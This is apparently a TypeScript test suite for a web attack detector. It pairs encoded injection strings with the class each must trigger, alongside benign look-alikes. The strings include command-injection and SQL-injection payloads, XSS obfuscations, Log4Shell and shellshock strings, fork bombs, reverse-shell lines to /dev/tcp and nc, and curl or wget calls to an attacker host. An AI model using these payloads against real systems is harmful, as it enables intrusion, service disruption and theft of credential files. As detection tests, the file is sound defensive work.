/**
 * The language readers of detection (docs/detection.md): the shell reader (shell-tokens.ts) as
 * examples of what it reads, then values through AttackDetector: each attack with the class it
 * must give, and benign look-alikes that must give nothing. Values are written decoded; `q` puts
 * them in a query argument, `ref` in the Referer, `ua` in the User-Agent, `form` in a form field.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import { MAX_SHELL_CHARS, readShell } from '../../../node/analysis/attacks/detectors/shell-tokens';
import type { AttackClass } from '../../../node/records/types';
import { at, HOST, RELAXED, tx, type Where, namedExamples } from './helpers';

const detector = new AttackDetector(RELAXED);

/** What the shell reader makes of a value: each command as `began: word word...` (+ `obfuscated`). */
function commands(v: string): string[] {
  return readShell(v).commands.map((c) => `${c.began}: ${c.words.join(' ')}${c.obfuscated ? ' (obfuscated)' : ''}`);
}

const READINGS: Array<[string, string[]]> = [
  ['127.0.0.1;cat /etc/passwd', ['start: 127.0.0.1', 'separator: cat /etc/passwd']],
  ["wh''oami", ['start: whoami (obfuscated)']],
  ['w\\ho\\am\\i', ['start: whoami (obfuscated)']],
  // A name that comes out of an expansion counts as spelled to hide it.
  ['cat${IFS}/etc/passwd', ['start: cat /etc/passwd (obfuscated)']],
  ['cat$IFS$9/etc/passwd', ['start: cat /etc/passwd (obfuscated)']],
  ['{cat,/etc/passwd}', ['start: cat /etc/passwd (obfuscated)']],
  ['x=$(id)', ['substitution: id']],
  ['a`uname -a`b', ['substitution: uname -a', 'start: ab (obfuscated)']],
  ["CMD=$'\\x69\\x64';$CMD", ['separator: id (obfuscated)']],
  ['c=cat;f=/etc/passwd;$c $f', ['separator: cat /etc/passwd (obfuscated)']],
  ['cat ${PATH:0:1}etc${PATH:0:1}passwd', ['start: cat /etc/passwd']],
  ['ping -c 1 127.0.0.1 2>&1 >/dev/null', ['start: ping -c 1 127.0.0.1']],
  ['"quoted search"', ['start: quoted search']],
  ['Install it:\n```sh\nnpm install x\n```', ['start: Install it:', 'separator: npm install x']],
];

for (const [value, expected] of READINGS) {
  test(`shell reader: ${JSON.stringify(value)}`, () => assert.deepEqual(commands(value), expected));
}

test('shell reader: a long value is read at both ends and says so', () => {
  const r = readShell('A'.repeat(3 * MAX_SHELL_CHARS) + ';cat /etc/passwd');
  assert.equal(r.truncated, true);
  assert.deepEqual(
    r.commands.map((c) => c.words.join(' ')),
    ['A'.repeat(MAX_SHELL_CHARS / 2), 'A'.repeat(MAX_SHELL_CHARS / 2 - 16), 'cat /etc/passwd'],
  );
});

test('a long value counts caps.script_chars', () => {
  const d = new AttackDetector(RELAXED);
  const r = d.detect(tx(at('form', 'A'.repeat(3 * MAX_SHELL_CHARS) + ';cat /etc/passwd')));
  assert.ok(r?.hits.some((h) => h.class === 'rce'));
  assert.equal(d.counters.caps.script_chars, 1);
});

const ATTACKS: Array<[string, AttackClass, Where, string]> = [
  // Shell: a command name spelled to dodge filters needs no separator.
  ['quotes inside a command name', 'rce', 'q', "wh''oami"],
  ['backslashes inside a command name', 'rce', 'q', 'w\\ho\\am\\i'],
  ['a quoted first letter', 'rce', 'q', "'i'fconfig"],
  ['an empty substitution inside a name', 'rce', 'q', 'ping$() 127.0.0.1'],
  ['empty backticks inside a name', 'rce', 'q', 'pi``ng 127.0.0.1'],
  ['a brace list of command and argument', 'rce', 'q', '{cat,/etc/passwd}'],
  ['a brace list after a separator', 'rce', 'q', ';{curl,http://x.example/a.sh};'],
  ['a glob for a binary', 'rce', 'q', 'x;/bin/ca? /et*/passwd'],
  ['a bracket glob in a binary path', 'rce', 'q', '/usr/bin/[u]name -a'],
  // A probe given only options is the whole command line, with no shell character at all.
  ['a probe with options only', 'rce', 'q', 'uname -n -s'],
  ['a listing with options only', 'rce', 'form', 'ls -la'],
  ['a network probe with a long option', 'rce', 'q', 'netstat --listening'],
  ['a word-command run by a wrapper that is no word', 'rce', 'form', 'nohup who'],
  ['a program given an option first', 'rce', 'form', 'cpulimit -l 100 -f whoami'],
  ['variables assembled into a command', 'rce', 'q', 'a=/etc&&b=/passwd&&c=cat&&$c $a$b'],
  ['ANSI-C quoted command in a variable', 'rce', 'q', ";CMD=$'\\x69\\x64';$CMD"],
  ['an unset variable glued inside words', 'rce', 'ref', 'foo;cat$u /etc$u/passwd'],
  ['breaking out of a quoted argument', 'rce', 'q', "';echo md5(TestPoc);'"],
  ['$IFS then text, in a substitution', 'rce', 'q', '$(/bin/wget$IFShttp://x.example/a)'],
  ['command substitution in a parameter', 'rce', 'q', '${`id`}'],
  ['sqlite shell command', 'rce', 'q', ';\n.shell nc 10.0.0.1 6666 -e sh'],
  ['a wrapper running a command', 'rce', 'q', ';time sh -c whoami'],
  ['a program by its path', 'rce', 'q', '/usr/bin/id'],
  ['a known command on a system file', 'rce', 'q', 'cat /etc/passwd'],
  ['a Windows listing', 'rce', 'q', '&& | dir c:\\'],
  ['a cmd.exe variable', 'rce', 'q', 'echo %USERNAME%'],
  ['cmd.exe IF with a comparison', 'rce', 'q', 'if not (2 equ 2) echo hey'],
  ['cmd.exe FOR', 'rce', 'q', 'for %variable in (set) do command'],
  ['a fork bomb', 'rce', 'q', ':(){ :|:& };:'],
  ['old arithmetic', 'rce', 'q', '$[2+2]'],
  ['padding before the payload', 'rce', 'form', 'A'.repeat(20000) + ';cat /etc/passwd'],
  ['JNDI in the User-Agent', 'rce', 'ua', '${${lower:j}ndi:dns://x.example/a}'],
  ['JNDI in Authorization', 'rce', 'auth', 'Bearer ${jnd${upper:i}:ldap://x.example/a}'],
  ['shellshock in Accept', 'rce', 'accept', '() { :;}; /bin/bash -c id'],
  ['shellshock with here-documents in Accept', 'rce', 'accept', '() { 0 <<a <<b; } bash -c id'],
  // JavaScript without tags.
  ['short JSFuck', 'xss', 'q', '+!![]'],
  ['JSFuck coercion of an object', 'xss', 'q', '(+{}+[])'],
  ['a sink name joined from strings', 'xss', 'q', "a=0||'ev'+'al'||0;b=location.hash;c=window[a];c(b)"],
  ['javascript: spelled over several variables', 'xss', 'q', "s1='jav';s2='ascr';s3='ipt:';u=s1+s2+s3;URL=u"],
  ['regex sources joined', 'xss', 'ref', 'a=/ev/.source;a+=/al/.source;a[a](name)'],
  ['a computed call on a number', 'xss', 'q', '1[__+_](_+___)'],
  ['a timer fed by the URL', 'xss', 'q', 'setTimeout(location.search.slice(1))'],
  ['eval of window.name', 'xss', 'ref', 'eval(name)'],
  // SQL statements and fragments.
  ['ORDER BY a delay', 'sqli', 'q', 'ORDER BY SLEEP(5)--'],
  ['an always-false OR', 'sqli', 'q', ' OR 1=0'],
  ['quotes without spaces', 'sqli', 'q', "'OR'a'='a"],
  // A closed string, an operator and a few operands, then a comment that cuts the query.
  ['a collation after a closed string', 'sqli', 'form', "user'collate nocase--"],
  ['OR and a name test before a comment', 'sqli', 'q', "z'or email notnull--"],
  ['waitfor after a closed parenthesis', 'sqli', 'q', "1));waitfor delay '0:0:5'--"],
  ['waitfor after a double quote', 'sqli', 'q', "1\";waitfor delay '0:0:5'--"],
  ['a subquery selecting CASE in parentheses', 'sqli', 'q', "1')))(select (case when (5451=5451) then 1 else 0 end) from dual)"],
  [
    'a subquery concatenated to strings',
    'sqli',
    'q',
    "select 'qq'||(case 5118 when 5118 then 1 else 0 end)||'zz' from rdb$database",
  ],
  ['dynamic SQL from a variable', 'sqli', 'q', '0x77616974666F72 exec(@s)'],
  ['reading a system catalogue', 'sqli', 'q', '1 union select name from sqlite_master--'],
  // Shell: a function that pipes into itself (a fork bomb), in the spellings bash accepts.
  ['a fork bomb with calls written as C', 'rce', 'form', 'f(){ f() | f(); }; f'],
  ['a fork bomb named with a dot', 'rce', 'q', '.(){ .|.& };.'],
  ['a fork bomb run without a separator', 'rce', 'q', 'test() { test | test & } test'],
  // Shell: bash's network redirections, what reverse shells are made of.
  ['a socket opened on /dev/tcp', 'rce', 'q', 'exec 5<>/dev/tcp/10.0.0.1/80'],
  ['an interactive shell sent to /dev/tcp', 'rce', 'ua', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
  // PHP: a function name put together before it is called.
  ['a name from concatenated bare words', 'rce', 'q', "(sy.(st).em)('uname');"],
  ['a name from strings after a cast', 'rce', 'q', '( string ) "sys"."t"."em" (\'uname\');'],
  ['a variable holding a built name, called', 'rce', 'q', "$y = 'sys'.'tem';($y)('uname');"],
  ['a constant holding a built name, called', 'rce', 'form', "define('x', 'sys' . 'tem');(x)/* c */('uname');"],
  // Shell: dd given system files as its operands; a compiler told to run each pass under a shell.
  ['dd reading a system file', 'rce', 'ua', 'dd if=/etc/passwd of=/tmp/x.sh bs=1 skip=22 count=9'],
  ['a compiler wrapper running a shell', 'rce', 'form', 'c89 -wrapper sh,-c,id .'],
  // Character references with any number of leading zeros, as browsers and HTML decoders read them.
  ['a lookup behind zero-padded references', 'rce', 'ua', '&#x24;&#' + '0'.repeat(40) + '123;jndi:ldap://x.example/w}'],
  // An application's configuration script asked of a parameter (local file inclusion).
  ['a configuration script as a value', 'ptrav', 'q', 'config.php'],
  ['a database script under a folder', 'ptrav', 'form', '/includes/database.inc'],
  // Windows programs by their `.exe` name, drives written with a forward slash.
  ['a timing probe by its .exe name', 'rce', 'q', 'ping.exe -n 31 127.0.0.1'],
  ['a listing of a drive with a forward slash', 'rce', 'q', 'dir c:/'],
  // HFS macros run from any text the server renders (CVE-2014-6287).
  ['an HFS exec macro', 'rce', 'q', '%00{.exec|cmd.exe /c ver.}'],
  ['an HFS cookie macro', 'rce', 'q', '{.cookie|a|value=b.}'],
  // Whole-request points: the Referer's query is read like this request's.
  ['shell obfuscation in the Referer query', 'rce', 'ref', "wh''oami"],
  ['shellshock in the Referer query', 'rce', 'ref', '() { :;}; /bin/bash -c id'],
  ['overlong UTF-8 dots in the Referer query', 'ptrav', 'ref', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd'],
  ['a loopback address in the Referer query', 'ssrf', 'ref', 'http://0x7f.1/'],
];

const BENIGN: Array<[string, Where, string]> = [
  ['a quoted search term', 'q', '"ping"'],
  // Word-commands that are English (`find`, `top`, `cat`) with an option-like word stay text.
  ['a word-command with a dash word', 'q', 'top -rated'],
  ['a search with a minus operator', 'q', 'cat -dog'],
  ['a probe name with a number option', 'q', 'ls -10 items'],
  ['an English wrapper before a word-command', 'q', 'nice cat pictures'],
  ['a phrase starting with time', 'form', 'time cat'],
  ['a name with an apostrophe', 'q', "O'Neil's shop"],
  ['a sentence with a pipe', 'q', 'Tom | Jerry cat lovers'],
  ['an apostrophe and a dash at the end', 'form', "O'Brien and sons --"],
  ['an apostrophe in a phrase with a dash', 'q', "it's a cat -- or not"],
  ['parentheses in documentation', 'form', "- it's full reference (id)"],
  ['a method in a heading', 'form', '#### ast.isProblematicIfStatement(node)'],
  ['a Markdown link to a package', 'form', '[tar](http://npm.im/tar) and [node-tar](http://npm.im/tar)'],
  ['a Markdown code block', 'form', 'Install it:\n```sh\nnpm install --save-dev @babel/parser\n```'],
  ['a shell word in a sentence', 'q', 'Use the cat command to print files'],
  ['an empty JSON list', 'q', '[]'],
  ['an empty JSON object', 'q', '{}'],
  ['a JSON list of words', 'q', '["java","script"]'],
  ['quoted words in prose', 'q', "It's 'eval' and \"alert\" in one sentence"],
  ['string concatenation', 'form', '"Hello " + name + "!"'],
  ['a footnote number', 'q', 'price: 1[0] (approx)'],
  ['a call through a local table', 'form', 'items[0](x)'],
  ['a date range', 'q', '2024-01-01 - 2024-12-31'],
  ['a URL', 'q', 'https://example.com/a/b?c=d'],
  ['a browser Accept header', 'accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ['a bearer token', 'auth', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc'],
  ['a sentence with case, when and then', 'q', 'In case 5 when you are done then call me'],
  ['prose naming a catalogue', 'q', 'we store settings in sqlite_master table'],
  ['a device path in prose', 'q', 'see /dev/tcp/ for sockets'],
  ['a C function in prose', 'form', 'My function f() { g(); } works'],
  ['words in parentheses before a quote', 'q', "Price (USD) ('approx')"],
  ['a dotted name in parentheses', 'form', "(see e.g. (the) docs)('x')"],
  ['an ordinary Referer query', 'ref', 'shoes size 42'],
  ['a search page address in the Referer query', 'ref', 'https://www.google.com/search?q=shoes'],
  ['a client-side configuration file', 'q', 'config.js'],
  ['a dotted word in braces', 'q', '{.net | core}'],
  ['a dd word in prose', 'q', 'dd if you must'],
  ['a directory word then a drive in prose', 'q', 'the dir c: drive holds it'],
  ['a Windows program named in prose', 'q', 'notepad.exe is an editor'],
  ['a number with zeros as a reference', 'q', 'Ben &#0000038; Jerry'],
];

namedExamples(detector, ATTACKS, BENIGN);

/**
 * A query string or form body split on `&` can cut a command in two (`?1+1&&curl host`): the
 * whole text is read for shell as well, when an empty pair or a later name holding a space shows
 * the split may have cut one. Ordinary query strings (flags, empty names, `&&` typos) stay quiet.
 */
const RAW_QUERIES: Array<[string, AttackClass[]]> = [
  ['/?1+1&&curl+attacker.example', ['rce']],
  ['/ping?host=shop.example&&whoami', ['rce']],
  ['/ping?host=shop.example&&nc%20-e%20/bin/sh%2010.0.0.1%204444', ['rce']],
  ['/ping?host=x&wget+attacker.example/x.sh', ['rce']],
  // Benign look-alikes: a doubled `&`, flags without `=`, a leading `&`, a name with a space.
  ['/search?q=shoes&&page=2', []],
  ['/list?sort=name&desc&page=2', []],
  ['/list?&a=1&b=2', []],
  ['/search?q=1&x&Black+Friday+deals', []],
  ['/api?a=1&&b=2&&c=3', []],
];

for (const [target, expected] of RAW_QUERIES) {
  test(`raw query ${JSON.stringify(target)} -> ${expected.join(',') || 'nothing'}`, () =>
    assert.deepEqual(detector.detect(tx({ target }))?.hits.map((h) => h.class) ?? [], expected));
}

test('raw form body: `&&` between commands is read as one shell value', () => {
  const form = (body: string) =>
    detector
      .detect(
        tx({ method: 'POST', target: '/ping', headers: [HOST, ['Content-Type', 'application/x-www-form-urlencoded']], body }),
      )
      ?.hits.map((h) => h.class) ?? [];
  // The command reads a system file: ptrav as well as rce (docs/detection.md, ptrav).
  assert.deepEqual(form('ip=shop.example&&cat+/etc/shadow'), ['rce', 'ptrav']);
  assert.deepEqual(form('name=Tom&&Jerry=1'), []);
});
